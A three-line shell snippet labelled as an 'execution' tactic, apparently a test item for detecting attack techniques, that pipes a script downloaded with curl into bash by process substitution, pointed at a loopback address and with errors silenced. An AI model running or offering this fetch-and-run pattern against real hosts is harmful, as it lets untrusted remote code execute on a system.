# tactic: execution
# run a downloaded script through a process substitution (loopback)
bash -c 'bash <(curl -s -m 1 http://127.0.0.1:9/i.sh)' 2>/dev/null; true
